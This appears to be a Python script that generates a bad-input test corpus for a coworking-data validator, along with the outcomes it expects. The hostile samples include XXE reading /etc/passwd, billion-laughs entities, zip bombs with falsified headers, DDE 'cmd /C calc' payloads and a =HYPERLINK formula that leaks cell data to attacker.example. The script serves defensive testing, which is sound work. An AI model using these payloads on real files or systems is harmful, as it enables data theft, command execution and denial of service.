"""Generate the bad-input corpus of `cowork-data validate` (issue 9) and its expected outcomes.

INVENTED DATA: every row is made up (names, addresses; 01199250158 is a valid check digit of no real company).

Run ``.venv/bin/python tests/corpus/make_corpus.py`` to rewrite the files and ``expected.csv`` next to this script;
the output is byte-identical on every run (fixed zip timestamps, seeded random bytes, no clocks). Generator-only
packages: fpdf2 (PDFs) and msoffcrypto-tool (the password-protected XLSX); the check needs neither.
Every file stays under 1 MB on disk: the bombs are small because they compress well, and a case larger than
1 MB as a plain file (the 5 MB line) is stored as ``NAME.gz``, which the check inflates before validating it.
"""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import io
import json
import random
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from openpyxl.utils import get_column_letter

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"
ZIP_TIME = (2024, 1, 1, 0, 0, 0)
SEED = 20240901

HEADER = ["Denominazione", "Tipologia", "Indirizzo", "CAP", "Comune", "Latitudine", "Longitudine", "Descrizione"]
GOOD = [
    ["Spazio Prova Uno", "coworking", "Via Tortona 1", "20144", "Milano", "45.4520", "9.1650", "Postazioni e wifi"],
    ["Spazio Prova Due", "fablab", "Via Padova 2", "20127", "Milano", "45.4950", "9.2210", "Stampanti 3D"],
]
#: One real defect: a 4-digit CAP (the leading zero dropped by a spreadsheet).
BAD_CAP = ["Spazio Prova Tre", "coworking", "Via Savona 3", "2014", "Milano", "45.4530", "9.1600", "Sala riunioni"]

GEOJSON_POINTS = {"type": "FeatureCollection", "features": [
    {"type": "Feature", "geometry": {"type": "Point", "coordinates": [float(row[6]), float(row[5])]},
     "properties": dict(zip(HEADER[:5], row[:5], strict=True))} for row in GOOD]}
XXE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS = ('<!DOCTYPE x [<!ENTITY a0 "ha">'
          + "".join(f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10)) + "]>")

#: A row whose first cell is an entity reference (the sheet is otherwise valid).
ENTITY_ROW = '<row r="5"><c r="A5" t="inlineStr"><is><t>&{};</t></is></c></row>'
ODS_ENTITY_ROW = ('<table:table-row><table:table-cell office:value-type="string"><text:p>&{};</text:p>'
                  "</table:table-cell></table:table-row>")

ODS_REPEATED = ('<table:table-row table:number-rows-repeated="100000"><table:table-cell office:value-type="string" '
                'table:number-columns-repeated="1000"><text:p>x</text:p></table:table-cell></table:table-row>')


def rows_with(*extra: list[str]) -> list[list[str]]:
    return [HEADER, *GOOD, *extra]


def csv_text(rows: list[list[str]], sep: str = ";", quoting: int = csv.QUOTE_MINIMAL) -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=sep, lineterminator="\n", quoting=quoting).writerows(rows)
    return out.getvalue()


def with_description(value: str) -> list[list[str]]:
    return rows_with(GOOD[0][:2] + ["Via Moscova 4", "20121", "Milano", "45.4780", "9.1880", value])


# Zip containers (XLSX, ODS) written by hand: deterministic, and free to be as broken as a case needs


def zip_bytes(entries: list[tuple[str, bytes]], *, stored: tuple[str, ...] = ()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for name, data in entries:
            info = zipfile.ZipInfo(name, ZIP_TIME)
            info.compress_type = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            zf.writestr(info, data, compresslevel=9)
    return out.getvalue()


def _esc(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def sheet_xml(rows: list[list[str]], *, doctype: str = "", body: str = "", extra_cells: str = "") -> bytes:
    xml_rows = []
    for r, row in enumerate(rows, start=1):
        cells = "".join(f'<c r="{get_column_letter(c)}{r}" t="inlineStr"><is><t xml:space="preserve">{_esc(v)}</t>'
                        "</is></c>" for c, v in enumerate(row, start=1) if v != "")
        xml_rows.append(f'<row r="{r}">{cells}</row>')
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{doctype}'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f'<sheetData>{"".join(xml_rows)}{body}{extra_cells}</sheetData></worksheet>').encode()


def xlsx_bytes(sheets: list[tuple[str, bytes]], *, hidden: tuple[str, ...] = ()) -> bytes:
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    state = ' state="hidden"'
    book_sheets = "".join(f'<sheet name="{name}" sheetId="{i}" r:id="rId{i}"{state if name in hidden else ""}/>'
                          for i, (name, _) in enumerate(sheets, start=1))
    book_rels = "".join(f'<Relationship Id="rId{i}" Type="{rel}/worksheet" Target="worksheets/sheet{i}.xml"/>'
                        for i in range(1, len(sheets) + 1))
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(1, len(sheets) + 1))
    entries = [
        ("[Content_Types].xml", (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            f"{overrides}</Types>").encode()),
        ("_rels/.rels", (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>").encode()),
        ("xl/workbook.xml", (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook {ns} xmlns:r="{rel}">'
            f"<sheets>{book_sheets}</sheets></workbook>").encode()),
        ("xl/_rels/workbook.xml.rels", (
            '<?xml version="1.0" encoding="UTF-8"?>'
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{book_rels}'
            "</Relationships>").encode()),
    ]
    entries += [(f"xl/worksheets/sheet{i}.xml", xml) for i, (_, xml) in enumerate(sheets, start=1)]
    return zip_bytes(entries)


def xlsx(rows: list[list[str]], **kw: str) -> bytes:
    return xlsx_bytes([("Spazi", sheet_xml(rows, **kw))])


def ods_content(rows: list[list[str]], *, doctype: str = "", body: str = "") -> bytes:
    xml_rows = "".join(
        "<table:table-row>" + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{_esc(v)}</text:p></table:table-cell>'
            for v in row) + "</table:table-row>" for row in rows)
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}'
            '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
            'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
            '<office:body><office:spreadsheet><table:table table:name="Spazi">'
            f"{xml_rows}{body}</table:table></office:spreadsheet></office:body></office:document-content>").encode()


def ods(rows: list[list[str]], **kw: str) -> bytes:
    manifest = ('<?xml version="1.0" encoding="UTF-8"?>'
                '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
                'manifest:version="1.2">'
                '<manifest:file-entry manifest:full-path="/" manifest:version="1.2" '
                'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                "</manifest:manifest>")
    return zip_bytes([("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
                      ("META-INF/manifest.xml", manifest.encode()), ("content.xml", ods_content(rows, **kw))],
                     stored=("mimetype",))


def xlsx_streamed_sheet(chunk: bytes, repeat: int) -> bytes:
    """An XLSX whose sheet XML is a header row and `repeat` copies of `chunk` (compressed as a stream)."""
    head = sheet_xml([HEADER]).rsplit(b"</sheetData>", 1)[0]
    out = io.BytesIO(xlsx_bytes([("Spazi", b"")]))
    # rewrite: copy every entry but the sheet, then stream the sheet in
    src = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w") as zf:
        for info in src.infolist():
            if info.filename.endswith("sheet1.xml"):
                continue
            zf.writestr(info, src.read(info.filename), compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", ZIP_TIME)
        info.compress_type = zipfile.ZIP_DEFLATED
        info._compresslevel = 9  # ZipInfo has no public compression level on Python 3.11
        with zf.open(info, "w") as fh:
            fh.write(head)
            block = chunk * max(1, (1 << 20) // len(chunk))
            written = 0
            while written < repeat * len(chunk):
                fh.write(block)
                written += len(block)
            fh.write(b"</sheetData></worksheet>")
    return result.getvalue()


def lying_sizes(data: bytes, member: str, size: int) -> bytes:
    """The zip with `member`'s declared uncompressed size set to `size` in both headers (the data unchanged)."""
    raw = bytearray(data)
    zf = zipfile.ZipFile(io.BytesIO(data))
    info = zf.getinfo(member)
    struct.pack_into("<I", raw, info.header_offset + 22, size)
    name = member.encode()
    central = raw.find(b"PK\x01\x02")
    while central >= 0:
        length = struct.unpack_from("<H", raw, central + 28)[0]
        if bytes(raw[central + 46:central + 46 + length]) == name:
            struct.pack_into("<I", raw, central + 24, size)
            return bytes(raw)
        central = raw.find(b"PK\x01\x02", central + 4)
    raise AssertionError(f"{member} not in the central directory")


def encrypted_xlsx() -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile
    from msoffcrypto.method import ecma376_agile
    from msoffcrypto.method.container import ecma376_encrypted

    # Salts and keys from a seeded generator and a fixed container time, so the file is the same on every run.
    patches = [(ecma376_agile, "_random_buffer", random.Random(SEED).randbytes),
               (ecma376_encrypted, "datetime2filetime", lambda _: 133485408000000000)]
    originals = [(module, name, getattr(module, name)) for module, name, _ in patches]
    try:
        for module, name, value in patches:
            setattr(module, name, value)
        out = io.BytesIO()
        OOXMLFile(io.BytesIO(xlsx(rows_with()))).encrypt("segreto", out)
    finally:
        for module, name, value in originals:
            setattr(module, name, value)
    data = out.getvalue()
    assert data.startswith(b"\xd0\xcf\x11\xe0") and "EncryptedPackage".encode("utf-16-le") in data
    return data


def pdf_bytes(table: list[list[str]] | None) -> bytes:
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_creation_date(dt.datetime(2024, 1, 1, tzinfo=dt.UTC))
    pdf.add_page()
    if table is None:  # a scanned page: shapes only, no text layer
        for i in range(12):
            pdf.rect(15, 20 + i * 18, 180, 12, style="F" if i % 2 else "D")
    else:
        pdf.set_font("helvetica", size=7)
        with pdf.table() as grid:
            for row in table:
                line = grid.row()
                for value in row:
                    line.cell(value)
    return bytes(pdf.output())


def kml(placemarks: str, *, doctype: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}<kml xmlns="http://www.opengis.net/kml/2.2">'
            f"<Document>{placemarks}</Document></kml>").encode()


PLACEMARK = ('<Placemark><name>{name}</name><ExtendedData><Data name="Tipologia"><value>coworking</value></Data>'
             '<Data name="CAP"><value>{cap}</value></Data><Data name="Comune"><value>Milano</value></Data>'
             "</ExtendedData><Point><coordinates>9.1650,45.4520</coordinates></Point></Placemark>")


def rand(n: int, salt: int) -> bytes:
    return random.Random(SEED + salt).randbytes(n)


# The cases: file name → (bytes, expected exit code, text that must appear, why)

Case = tuple[str, Callable[[], bytes], int, str, str]
CASES: list[Case] = [
    # empty and nearly empty
    ("empty.csv", lambda: b"", 2, "is empty", "zero bytes"),
    ("whitespace-only.csv", lambda: b" \r\n\t\n  \n", 2, "is empty", "only blanks and line breaks"),
    ("bom-only.csv", lambda: b"\xef\xbb\xbf", 2, "is empty", "a UTF-8 byte-order mark and nothing else"),
    ("header-only.csv", lambda: csv_text([HEADER]).encode(), 2, "no data rows", "a header and no rows"),
    ("header-only.xlsx", lambda: xlsx([HEADER]), 2, "no data rows", "a spreadsheet with a header and no rows"),
    # not text, or text in a way a CSV reader does not expect
    ("binary-garbage.csv", lambda: rand(64 * 1024, 1), 2, "is binary", "seeded random bytes named .csv"),
    ("nul-bytes.csv", lambda: csv_text(rows_with()).encode().replace(b"Prova", b"Pr\x00ova"), 2, "NUL",
     "a table with NUL bytes inside cells"),
    ("png-named.csv", lambda: b"\x89PNG\r\n\x1a\n" + rand(2000, 2), 2, "PNG image", "a PNG image named .csv"),
    ("gzip-named.csv", lambda: b"\x1f\x8b\x08\x00" + rand(2000, 3), 2, "gzip", "a gzip stream named .csv"),
    ("html-error-page.csv", lambda: b"<!DOCTYPE html><html><head><title>502 Bad Gateway</title></head><body>"
     b"<h1>502 Bad Gateway</h1><p>nginx</p></body></html>\n", 2, "no table in the page",
     "a portal's error page saved as .csv"),
    ("no-separator-5mb.csv", lambda: b"x" * (5 * 1024 * 1024 - 1) + b"\n", 2, "no separator",
     "one 5 MB line without any separator"),
    ("utf16le-no-bom.csv", lambda: csv_text(rows_with(BAD_CAP)).encode("utf-16-le"), 1, "constraint-error",
     "UTF-16 LE without BOM is read (alternating NULs); the 4-digit CAP is found"),
    ("utf16be-no-bom.csv", lambda: csv_text(rows_with(BAD_CAP)).encode("utf-16-be"), 1, "constraint-error",
     "UTF-16 BE without BOM is read; the 4-digit CAP is found"),
    ("utf16-bom.csv", lambda: csv_text(rows_with(BAD_CAP)).encode("utf-16"), 1, "constraint-error",
     "UTF-16 with BOM (Excel's 'Unicode text') is read; the 4-digit CAP is found"),
    ("mixed-encodings.csv", lambda: csv_text(rows_with(["Spazio Città", *GOOD[0][1:]])).encode()
     + csv_text([["Spazio Libertà", *GOOD[1][1:]]]).encode("latin-1"), 2, "mixes",
     "UTF-8 rows followed by a Latin-1 row"),
    ("ragged-rows.csv", lambda: (csv_text([HEADER, GOOD[0]]) + "Spazio Corto;coworking;Via Solari 5\n"
                                 + "Spazio Lungo;coworking;Via Lunga 6;20100;Milano;45.46;9.17;Testo;extra;extra\n")
     .encode(), 1, "missing-value", "one row with 3 cells (required comune missing), one with 10"),
    ("columns-20000.csv", lambda: csv_text([[f"c{i}" for i in range(20000)], ["x"] * 20000]).encode(), 2,
     "20000 columns", "20,000 columns"),
    ("columns-16384.xlsx", lambda: xlsx([HEADER + [f"c{i}" for i in range(16384 - len(HEADER))], GOOD[0]]), 2,
     "16384 columns", "16,384 columns (Excel's maximum) in a spreadsheet, refused before calamine reads it"),
    ("far-cell.xlsx", lambda: xlsx(rows_with(), extra_cells='<row r="1048576"><c r="XFD1048576" t="inlineStr">'
                                                          "<is><t>x</t></is></c></row>"), 2, "columns",
     "a cell at XFD1048576 would make a 17-billion-cell grid"),
    ("long-rows.xlsx", lambda: xlsx(rows_with(), extra_cells='<row r="1048576"><c r="H1048576" t="inlineStr">'
                                                            "<is><t>x</t></is></c></row>"), 2, "cells",
     "a cell at H1048576: 8 million cells for 3 rows of data"),
    ("long-cell-200k.csv", lambda: csv_text(with_description("A" * 200_000)).encode(), 1, "cell-too-long",
     "a 200,000-character description"),
    # formulas and DDE payloads
    ("formula-hyperlink.csv", lambda: csv_text(with_description(
        '=HYPERLINK("http://attacker.example/?leak="&A2,"Clicca qui")')).encode(), 1, "formula-in-cell",
     "=HYPERLINK exfiltration"),
    ("formula-dde-plus.csv", lambda: csv_text(with_description("+cmd|' /C calc'!A0")).encode(), 1, "formula-in-cell",
     "DDE payload starting with +"),
    ("formula-at-sum.csv", lambda: csv_text(with_description("@SUM(1+9)*cmd|' /C calc'!A0")).encode(), 1,
     "formula-in-cell", "payload starting with @"),
    ("formula-minus.csv", lambda: csv_text(with_description("-2+3+cmd|' /C calc'!A0")).encode(), 1,
     "formula-in-cell", "payload starting with - (not a number)"),
    ("formula-tab.csv", lambda: csv_text(with_description("\t=1+1")).encode(), 1, "formula-in-cell",
     "tab-prefixed formula"),
    ("formula-cr.csv", lambda: csv_text(with_description("\r=1+1"), quoting=csv.QUOTE_ALL).encode(), 1,
     "formula-in-cell",
     "CR-prefixed formula (quoted)"),
    ("formula-equals-name.csv", lambda: csv_text(rows_with(["=1+1", *GOOD[0][1:]])).encode(), 1,
     "formula-in-cell", "a formula in the name column"),
    ("formula-cells.xlsx", lambda: xlsx(with_description("=HYPERLINK(\"http://attacker.example\",\"x\")")), 1,
     "formula-in-cell", "a formula as text in a spreadsheet cell"),
    # zip containers
    ("zip-bomb.xlsx", lambda: xlsx_streamed_sheet(b" ", 400 * 1024 * 1024), 2,
     "zip bomb", "a valid XLSX whose sheet XML inflates to 400 MB (blanks between rows, ratio 1000:1)"),
    ("zip-bomb-lying-size.xlsx", lambda: lying_sizes(
        xlsx_streamed_sheet(b" ", 300 * 1024 * 1024), "xl/worksheets/sheet1.xml",
        4096), 2, "zip bomb", "a 300 MB sheet that declares 4 KB in its zip headers"),
    ("long-cell-50mb.xlsx", lambda: xlsx(with_description("A" * (50 * 1024 * 1024))), 1, "cell-too-long",
     "one 50 MB cell: found, shown truncated"),
    ("xlsx-xxe.xlsx", lambda: xlsx(rows_with(), doctype=XXE, body=ENTITY_ROW.format("xxe")), 2, "DTD",
     "XXE: a DTD with an external entity in the sheet XML"),
    ("xlsx-billion-laughs.xlsx", lambda: xlsx(rows_with(), doctype=LAUGHS, body=ENTITY_ROW.format("a9")), 2, "DTD",
     "billion laughs in the sheet XML"),
    ("ods-xxe.ods", lambda: ods(rows_with(), doctype=XXE, body=ODS_ENTITY_ROW.format("xxe")), 2, "DTD",
     "XXE in content.xml"),
    ("ods-billion-laughs.ods", lambda: ods(rows_with(), doctype=LAUGHS, body=ODS_ENTITY_ROW.format("a9")), 2, "DTD",
     "billion laughs in content.xml"),
    ("truncated.xlsx", lambda: xlsx(rows_with(BAD_CAP))[:700], 2, "not a readable spreadsheet",
     "the first 700 bytes of an XLSX"),
    ("truncated.ods", lambda: ods(rows_with(BAD_CAP))[:600], 2, "not a readable spreadsheet",
     "the first 600 bytes of an ODS"),
    ("password-protected.xlsx", encrypted_xlsx, 2, "password", "an encrypted OOXML package (CFB + EncryptedPackage)"),
    ("old-xls-garbage.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rand(8192, 4), 2,
     "not a readable spreadsheet", "the OLE signature followed by random bytes"),
    ("zip-not-spreadsheet.xlsx", lambda: zip_bytes([("readme.txt", b"not a workbook\n")]), 2,
     "not a readable spreadsheet", "a zip without a workbook"),
    ("hidden-sheet-only.xlsx", lambda: xlsx_bytes([("Nascosto", sheet_xml(rows_with()))], hidden=("Nascosto",)), 2,
     "No sheet", "the only sheet is hidden"),
    ("ods-repeated-cells.ods", lambda: ods(rows_with(), body=ODS_REPEATED), 2, "repeated cells",
     "one cell repeated over 1,000 columns and 100,000 rows: 100 million cells from 1 KB"),
    ("defect.xlsx", lambda: xlsx(rows_with(BAD_CAP)), 1, "constraint-error", "a valid XLSX with a 4-digit CAP"),
    ("defect.ods", lambda: ods(rows_with(BAD_CAP)), 1, "constraint-error", "a valid ODS with a 4-digit CAP"),
    # published formats
    ("no-text-layer.pdf", lambda: pdf_bytes(None), 2, "(PDF) holds no data rows", "a scanned page: no text layer"),
    ("truncated.pdf", lambda: pdf_bytes(rows_with(BAD_CAP))[:900], 2, "(PDF) cannot be read", "a PDF cut short"),
    ("kml-malformed.kml", lambda: kml(PLACEMARK.format(name="Spazio", cap="20144"))[:-40], 2, "invalid KML",
     "a KML cut in the middle of a tag"),
    ("kml-xxe.kml", lambda: kml(PLACEMARK.format(name="&xxe;", cap="20144"), doctype=XXE), 2, "DTD",
     "XXE in a KML"),
    ("kml-billion-laughs.kml", lambda: kml(PLACEMARK.format(name="&a9;", cap="20144"), doctype=LAUGHS), 2, "DTD",
     "billion laughs in a KML"),
    ("kml-utf16-xxe.kml", lambda: kml(PLACEMARK.format(name="&xxe;", cap="20144"), doctype=XXE)
     .decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"), 2, "DTD",
     "XXE in a UTF-16 KML, where a byte search for <!ENTITY misses"),
    ("kml-defect.kml", lambda: kml(PLACEMARK.format(name="Spazio Uno", cap="20144")
                                   + PLACEMARK.format(name="Spazio Due", cap="2014")), 1, "constraint-error",
     "a valid KML with a 4-digit CAP"),
    ("xml-xxe.xml", lambda: f'<?xml version="1.0"?>\n{XXE}<spazi><spazio>&xxe;</spazio></spazi>'.encode(), 2, "DTD",
     "XXE in plain XML"),
    ("xml-billion-laughs.xml", lambda: f'<?xml version="1.0"?>\n{LAUGHS}<spazi><spazio>&a9;</spazio></spazi>'
     .encode(), 2, "DTD", "billion laughs in plain XML"),
    ("json-deep-nesting.json", lambda: b"[" * 200_000 + b"]" * 200_000, 2, "JSON", "200,000 nested arrays"),
    ("geojson-no-features.geojson", lambda: b'{"type": "FeatureCollection", "features": []}', 2, "no data rows",
     "a FeatureCollection without features"),
    ("geojson-defect.geojson", lambda: json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [9.165, 45.452]},
         "properties": {"Denominazione": name, "Tipologia": "coworking", "CAP": cap, "Comune": "Milano"}}
        for name, cap in (("Spazio Uno", "20144"), ("Spazio Due", "2014"))]}).encode(),
     1, "constraint-error", "a valid GeoJSON with a 4-digit CAP"),
    ("html-defect.html", lambda: ("<html><body><table><tr>" + "".join(f"<th>{h}</th>" for h in HEADER) + "</tr>"
                                  + "".join("<tr>" + "".join(f"<td>{v}</td>" for v in row) + "</tr>"
                                            for row in [*GOOD, BAD_CAP]) + "</table></body></html>").encode(), 1,
     "constraint-error", "a web page with a table and a 4-digit CAP"),
    ("script-wrapping-geojson.js", lambda: ("var spazi = " + json.dumps(GEOJSON_POINTS, indent=2) + ";\n").encode(), 2,
     "JavaScript program that wraps GeoJSON", "a map page's script holding the points (var spazi = {…};)"),
    ("json-not-records.json", lambda: json.dumps({"versione": 2, "aggiornato": "2024-01-01", "spazi": 3}).encode(),
     2, "neither GeoJSON nor a list of records", "a JSON object of metadata, no records"),
    ("zip-one-table.zip", lambda: zip_bytes([("LEGGIMI.txt", b"Dati di prova inventati.\n"),
                                             ("elenco/spazi.csv", csv_text(rows_with(BAD_CAP)).encode("cp1252"))]),
     1, "constraint-error", "a ZIP holding one CSV (and a read-me): the CSV is read, the 4-digit CAP found"),
    ("zip-several-tables.zip", lambda: zip_bytes([("coworking.csv", csv_text(rows_with()).encode()),
                                                  ("fablab.csv", csv_text(rows_with()).encode())]),
     2, "holding 2 tables: coworking.csv, fablab.csv", "a ZIP holding two tables: both named"),
    ("zip-bomb-archive.zip", lambda: zip_bytes([("spazi.csv", b"Denominazione;Comune\n" + b";" * (130 << 20))]), 2,
     "zip bomb", "a ZIP whose CSV inflates to 130 MB (ratio 1000:1)"),
]


def main() -> None:
    FILES.mkdir(parents=True, exist_ok=True)
    for old in FILES.iterdir():
        old.unlink()
    rows = []
    for name, make, exit_code, expect, why in CASES:
        data = make()
        stored = FILES / name
        if len(data) >= 1024 * 1024:  # kept compressed on disk; the check validates the inflated file
            data, stored = gzip.compress(data, compresslevel=9, mtime=0), FILES / f"{name}.gz"
        assert len(data) < 1024 * 1024, (name, len(data))
        stored.write_bytes(data)
        rows.append([name, str(exit_code), expect, why])
    with (HERE / "expected.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh, lineterminator="\n")
        writer.writerow(["file", "exit_code", "expect", "why"])
        writer.writerows(rows)
    print(f"{len(rows)} files in {FILES}")


if __name__ == "__main__":
    main()
